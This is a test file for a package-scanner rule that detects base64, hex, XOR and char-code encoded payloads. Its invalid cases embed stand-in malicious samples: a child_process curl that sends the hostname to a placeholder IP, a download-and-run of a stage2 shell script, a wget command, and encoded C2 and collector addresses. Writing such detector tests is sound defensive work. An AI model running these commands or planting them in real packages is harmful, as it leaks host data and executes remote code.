import rule from '../../rules/encoded-payload.ts'
import { RuleTester } from '../../src/rule-tester/index.ts'

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64')
const hex = (s: string | Buffer) => Buffer.from(s).toString('hex')
const stealer = "const cp = require('child_process'); const os = require('os'); cp.exec('curl -s -d ' + os.hostname() + ' http://192.0.2.10/c')"
const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(120, 7)])
const woff2 = Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(120, 3)])
const wasm = Buffer.concat([Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]), Buffer.alloc(120, 1)])
const sourceMap = JSON.stringify({ version: 3, sources: ['a.js'], sourcesContent: ["require('child_process').exec('x')"], mappings: 'AAAA' })
const worker = "self.onmessage = function (e) { const out = e.data.map((x) => x * 2); self.postMessage(out) }; var ready = true"

new RuleTester().run(rule, {
  valid: [
    { name: 'a base64 PNG data: URI', code: `module.exports = 'data:image/png;base64,${b64(png)}'` },
    { name: 'a base64 WOFF2 font data: URI', code: `module.exports = 'url(data:font/woff2;base64,${b64(woff2)})'` },
    { name: 'a PNG as bare base64', code: `module.exports = '${b64(png)}'` },
    { name: 'WebAssembly as base64', code: `module.exports = Buffer.from('${b64(wasm)}', 'base64')` },
    { name: 'a SHA-512 digest in hex', code: `module.exports = '${'a3f1'.repeat(32)}'` },
    { name: 'an inline source map', code: `module.exports = 'data:application/json;base64,${b64(sourceMap)}'` },
    { name: 'base64 of plain prose', code: `module.exports = '${b64('The quick brown fox jumps over the lazy dog, again and again and again, until the end of time.')}'` },
    { name: 'a short decoded word', code: "module.exports = atob('aGVsbG8gd29ybGQ=')" },
    { name: 'the base64 alphabet itself', code: "module.exports = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'" },
    { name: 'a plain URL passed through a helper', code: "function id(x) { return x }\nfetch(id('https://registry.example.invalid/pkg'))" },
  ],
  invalid: [
    {
      name: 'base64 of code that runs programs',
      code: `const p = '${b64(stealer)}'\nmodule.exports = p`,
      errors: [{ severity: 'high', message: /^A <1 KB base64 string decodes to text that is code that runs programs, reads host or credential data/ }],
    },
    {
      name: 'hex of a shell command',
      code: `module.exports = '${hex('curl -s http://192.0.2.10/stage2.sh -o /tmp/.s && sh /tmp/.s')}'`,
      errors: [{ severity: 'high', message: /^A <1 KB hex string decodes to text that is a shell command \(curl/ }],
    },
    {
      name: 'base64 inside base64',
      code: `module.exports = '${b64(b64(stealer))}'`,
      errors: [{ severity: 'high', message: /base64 in base64 string decodes to text that is code/ }],
    },
    {
      name: 'a JavaScript data: URI',
      code: `import('data:text/javascript;base64,${b64(stealer)}')`,
      errors: [{ severity: 'high', message: /base64 text\/javascript data: URI string decodes/ }],
    },
    {
      name: 'a hex-encoded address in an array of encoded strings (HexEval)',
      code: `const k = ['${hex('axios')}', '${hex('https://log-server.example.invalid/api/ipcheck/703')}']\nmodule.exports = k`,
      errors: [{ severity: 'medium', message: /^A <1 KB hex string decodes to text that is the address https:\/\/log-server\.example\.invalid/ }],
    },
    {
      name: 'an address decoded with atob',
      code: "const u = atob('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZHM=')\nmodule.exports = u",
      errors: [{ severity: 'medium', message: /^A string decoded at run time is the address https:\/\/collector\.example\.invalid\/uploads/ }],
    },
    {
      name: 'the same at install time is high',
      installTime: true,
      code: "require('https').get(atob('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZHM='))",
      errors: [{ severity: 'high' }],
    },
    {
      name: 'an address XOR-decoded by a function of the package',
      code: `function d(s, k) { let r = ''; for (let i = 0; i < s.length; i++) r += String.fromCharCode(s.charCodeAt(i) ^ k); return r }\nmodule.exports = d(${JSON.stringify([...'https://c2.example.invalid/p'].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join(''))}, 7)`,
      errors: [{ severity: 'medium', message: /is the address https:\/\/c2\.example\.invalid\/p/ }],
    },
    {
      name: 'a command built from char codes',
      code: `require('child_process').execSync(String.fromCharCode(${[...'wget -q http://192.0.2.1/x'].map((c) => c.charCodeAt(0)).join(', ')}))`,
      errors: [{ severity: 'high', message: /is a shell command \(wget/ }],
    },
    {
      name: 'an inline web worker is only noted',
      code: `module.exports = new Worker('data:application/javascript;base64,${b64(worker)}')`,
      errors: [{ severity: 'low', message: /is JavaScript code/ }],
    },
    {
      name: 'encoded code in a file nothing loads is one level lower',
      files: { 'test/fixture.js': `module.exports = '${b64(stealer)}'` },
      errors: [{ severity: 'medium', file: 'test/fixture.js' }],
    },
  ],
})
